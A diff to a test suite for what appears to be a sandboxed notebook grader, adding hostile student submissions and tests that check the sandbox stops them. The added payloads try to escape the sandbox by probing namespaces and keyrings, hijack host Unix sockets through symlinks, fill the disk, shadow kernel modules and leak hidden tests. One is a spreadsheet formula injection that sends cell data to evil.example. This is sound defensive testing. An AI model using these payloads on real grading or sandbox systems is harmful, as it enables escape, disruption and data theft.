@@ -130,13 +130,64 @@ except OSError as err:
 """
 
 
+PROBE_THE_WALLS = """
+import ctypes, os, subprocess
+libc = ctypes.CDLL(None, use_errno=True)
+nested = subprocess.run(["unshare", "-Urm", "true"], capture_output=True).returncode
+key = libc.syscall(248, b"user", b"loot", b"left for the next student", 25, -4)  # add_key to @u
+key_error = ctypes.get_errno()
+bounding = [line.split()[1] for line in open("/proc/self/status") if line.startswith("CapBnd")][0]
+raise RuntimeError(f"nested namespace {nested}, add_key {key} errno {key_error}, CapBnd {bounding}")
+"""
+# replace the kernel's sockets by links to a socket of the host, then cut the connections,
+# hoping the root worker reconnects through the links
+HIJACK_SOCKETS = """
+import glob, os, socket
+for path in glob.glob("/tmp/cnnbook-grade-*/runtime/kernel-*"):
+    os.unlink(path)
+    os.symlink(HOST_SOCKET, path)
+for fd in os.listdir("/proc/self/fd"):
+    try:
+        s = socket.socket(fileno=int(fd))
+    except OSError:
+        continue
+    try:
+        if s.family == socket.AF_UNIX:
+            s.shutdown(socket.SHUT_RDWR)
+    except OSError:
+        pass
+    s.detach()
+"""
+FILL_RUNTIME = """
+import glob
+runtime = glob.glob("/tmp/cnnbook-grade-*/runtime")[0]
+for i in range(3):
+    open(f"{runtime}/fill{i}", "wb").write(bytes(100 * 2**20))
+return x * x
+"""
+AMPLIFY_DISPLAYS = """
+from IPython.display import display, update_display
+for i in range(40):
+    display({"text/plain": "x"}, raw=True, display_id="d")
+update_display({"text/plain": "A" * 100_000}, raw=True, display_id="d")
+"""
+SPELL_OUT_HIDDEN_TEST = """
+hidden = [line for line in get_ipython().user_ns["In"][-1].splitlines() if "-4" in line][0]
+raise ValueError(hidden[:-1] + " <- all but the last character; " + " ".join(hidden))
+"""
+FORMULA = """
+Evil = type('=HYPERLINK("http://evil.example/?leak="&A2,"click to regrade")&"', (Exception,), {})
+raise Evil('"')
+"""
+
+
 def square_is(body: str) -> str:
     """Exercise 1's answer: a ``square`` whose body is ``body`` (run when the grade cell calls it)."""
     indented = "\n".join("    " + line for line in body.strip().split("\n"))
     return f"def square(x):\n{indented}"
 
 
-def the_class(root: Path, source: Path, listener_port: int) -> dict[str, dict[int, str]]:
+def the_class(root: Path, source: Path, listener_port: int, host_socket: Path) -> dict[str, dict[int, str]]:
     """Each student's cells 1 and 4: one honest, the others wrong, broken or hostile."""
     report = root / "report"
     targets = [root / "submitted" / "ada" / "ex.ipynb", root / "canary.txt", source, PACKAGE / "__init__.py",
@@ -166,10 +217,19 @@ def the_class(root: Path, source: Path, listener_port: int) -> dict[str, dict[in
         "filler": {1: square_is("open('big.bin', 'wb').write(bytes(200 * 2**20))\nreturn x * x"), 4: "answer = 24"},
         "hoarder": {1: square_is("for i in range(100):\n    open(f'part{i}', 'wb').write(bytes(32 * 2**20))\nreturn x * x"),
                     4: "answer = 24"},
-        "shouter": {1: "for _ in range(20):\n    print('x' * 2**20)\n" + correct, 4: "answer = 24"},
+        "shouter": {1: "for _ in range(30):\n    print('x' * 100_000)\n" + correct, 4: "answer = 24"},
         "caller": {1: square_is(connect), 4: "answer = 24"},
         "injector": {1: square_is(inject), 4: "answer = 24"},
         "victim": {1: f"# {KILL_MARK}\nimport time\ntime.sleep(120)"},
+        "prober": {1: square_is(PROBE_THE_WALLS), 4: "answer = 24"},
+        "hijacker": {1: f"HOST_SOCKET = {str(host_socket)!r}\n{HIJACK_SOCKETS}"},
+        "squatter": {1: square_is(FILL_RUNTIME), 4: "answer = 24"},
+        "amplifier": {1: AMPLIFY_DISPLAYS + "\n" + correct, 4: "answer = 24"},
+        "speller": {1: square_is(SPELL_OUT_HIDDEN_TEST), 4: "answer = 24"},
+        "formula": {1: square_is(FORMULA), 4: "answer = 24"},
+        # files beside the notebook named like modules the kernel imports as it starts,
+        # and one the notebook imports on purpose
+        "shadow": {1: "from helper import square", 4: "answer = 24"},
     }  # fmt: skip
 
 
@@ -232,9 +292,19 @@ def graded(tmp_path_factory):
     socket.create_connection(listener.getsockname(), timeout=5).close()  # reachable from the host
     listener.accept()[0].close()
     submissions = root / "submitted"
-    for student, cells in the_class(root, source, listener.getsockname()[1]).items():
+    host_socket = root / "host.sock"  # any Unix socket of the grading machine
+    unix_listener = socket.socket(socket.AF_UNIX)
+    unix_listener.bind(str(host_socket))
+    unix_listener.listen()
+    unix_listener.settimeout(0.5)
+    for student, cells in the_class(root, source, listener.getsockname()[1], host_socket).items():
         (submissions / student).mkdir(parents=True)
         nbformat.write(submission(cells), submissions / student / "ex.ipynb")
+    for module in ("ipykernel_launcher", "json", "zmq", "traitlets"):
+        (submissions / "shadow" / f"{module}.py").write_text(
+            "raise SystemExit('a student module ran as the kernel started')"
+        )
+    (submissions / "shadow" / "helper.py").write_text("def square(x):\n    return x * x\n")
     (submissions / "fay").mkdir()
     (submissions / "fay" / "ex.ipynb").write_text("this is not JSON")
     (submissions / "gus").mkdir()  # submitted nothing
@@ -254,11 +324,12 @@ def graded(tmp_path_factory):
         del os.environ["GRADER_TOKEN"]
         stop.set()
     connections = []
-    try:
-        while True:
-            connections.append(listener.accept())
-    except TimeoutError:
-        pass
+    for server in (listener, unix_listener):
+        try:
+            while True:
+                connections.append(server.accept())
+        except TimeoutError:
+            pass
     report = {name: (root / "report" / name).read_bytes() for name in ("grades.csv", "summary.md")}
     left = sandbox_processes()
     time.sleep(2)  # a daemon that survived would rewrite the report now
@@ -312,7 +383,7 @@ def test_no_process_outlives_grading_and_the_report_stays_as_written(graded):
 def test_no_secret_reaches_the_report(graded):
     thief = points(graded, "thief")
     assert thief["square-check"][:2] == (0.0, "failed") and "ValueError" in thief["square-check"][2]
-    assert "[hidden]" in thief["square-check"][2], "the hidden test it stole was redacted"
+    assert "[hidden: the message quoted a hidden test" in thief["square-check"][2], "it stole the hidden test"
     report = graded["root"] / "report"
     text = "\n".join(p.read_text() for p in [report / "grades.csv", report / "summary.md",
                                              *(report / "results").glob("*.json")])  # fmt: skip
@@ -344,7 +415,8 @@ def test_there_is_no_network(graded):
     caller = points(graded, "caller")
     assert caller["square-check"][:2] == (0.0, "failed"), caller
     assert "Network is unreachable" in caller["square-check"][2] or "refused" in caller["square-check"][2]
-    assert graded["connections"] == [], "a sandbox reached the host's loopback"
+    assert graded["connections"] == [], "a sandbox, or the worker for it, reached a socket of the host"
+    assert not points(graded, "hijacker")["square-check"][0], "no points, whether graded 0 or not graded"
 
 
 def test_reasons_cannot_inject_rows_into_the_summary(graded):
@@ -353,7 +425,29 @@ def test_reasons_cannot_inject_rows_into_the_summary(graded):
     assert [r.split(" | ")[0] for r in rows[1:]].count("| ada") == 1
     assert not any(r.startswith("| zed") for r in rows)
     assert "\x1b" not in summary
-    assert len(list(csv.DictReader(graded["report"]["grades.csv"].decode().splitlines()))) == 20 * 3
+    assert len(list(csv.DictReader(graded["report"]["grades.csv"].decode().splitlines()))) == 27 * 3
+
+
+def test_the_walls_inside_hold(graded):
+    reason = points(graded, "prober")["square-check"][2]
+    assert "nested namespace 1, add_key -1 errno 1, CapBnd 0000000000000000" in reason, reason
+    squatter = points(graded, "squatter")["square-check"]
+    assert squatter[:2] == (0.0, "failed") and "No space left" in squatter[2], squatter
+
+
+def test_files_of_the_submission_cannot_stand_in_for_the_kernels_modules(graded):
+    assert points(graded, "shadow")["square-check"][:2] == (2.0, "passed"), points(graded, "shadow")
+
+
+def test_reasons_are_no_formulas_and_quote_no_hidden_test(graded):
+    rows = list(csv.reader(graded["report"]["grades.csv"].decode().splitlines()))
+    assert not [cell for row in rows for cell in row if cell.startswith(("=", "+", "-", "@"))]
+    assert [r["reason"] for r in csv.DictReader(graded["report"]["grades.csv"].decode().splitlines())
+            if r["student"] == "formula" and r["exercise"] == "square-check"][0].startswith("'=HYPERLINK")  # fmt: skip
+    speller = points(graded, "speller")["square-check"][2]
+    assert speller == "ValueError: [hidden: the message quoted a hidden test or solution]", speller
+    amplifier = points(graded, "amplifier")["square-check"]
+    assert amplifier[0] == 0 and "printed more than 1 MB" in amplifier[2], amplifier
 
 
 def test_a_killed_worker_leaves_its_student_not_graded_and_the_rest_finish(graded):
@@ -402,7 +496,9 @@ def test_without_a_sandbox_grading_refuses_and_names_the_flag(monkeypatch, tmp_p
     from cnnbook.__main__ import main
 
     monkeypatch.setattr(cnnbook.sandbox.shutil, "which", lambda tool: None)
-    with pytest.raises(SandboxUnavailable, match="bwrap, setpriv, prlimit not found.*--unsafe-no-sandbox"):
+    with pytest.raises(
+        SandboxUnavailable, match="bwrap, setpriv, prlimit, unshare, mount not found.*--unsafe-no-sandbox"
+    ):
         grade(tmp_path, [], tmp_path / "out")
     (tmp_path / "ex.ipynb").write_text(nbformat.writes(exercise_notebook()))
     assert (
@@ -453,9 +549,19 @@ def test_reasons_are_one_short_line_without_secrets_or_markup():
     secrets = secret_lines(exercise_notebook())
     assert "assert square(-4) == 16" in secrets and "return x * x" in secrets
     assert "assert square(3) == 9" not in secrets, "a visible test is no secret"
-    reason = clean_reason("ValueError: a\n\tb\x00\x1b[2J\u200b assert square(-4) == 16 " + "z" * 500, secrets)
-    assert reason.startswith("ValueError: a b[2J [hidden] zzz") and reason.endswith("...")
-    assert len(reason) == 200
+    reason = clean_reason("ValueError: a\n\tb\x00\x1b[2J\u200b " + "z" * 500, secrets)
+    assert reason.startswith("ValueError: a b[2J zzz") and reason.endswith("...") and len(reason) == 200
+    for quoted in ("assert square(-4) == 16", "square ( - 4 ) = = 1", "return x*x"):
+        assert (
+            clean_reason(f"ValueError: {quoted}", secrets)
+            == "ValueError: [hidden: the message quoted a hidden test or solution]"
+        )
+    assert clean_reason("assertsquare(-4)==16: x", secrets).startswith("Error: [hidden"), (
+        "a name can quote too"
+    )
+    assert (
+        clean_reason("AssertionError: expected 24, got 28", secrets) == "AssertionError: expected 24, got 28"
+    )
     assert markdown_text("| x | *y* <b>") == r"\| x \| \*y\* \<b\>"
 
 
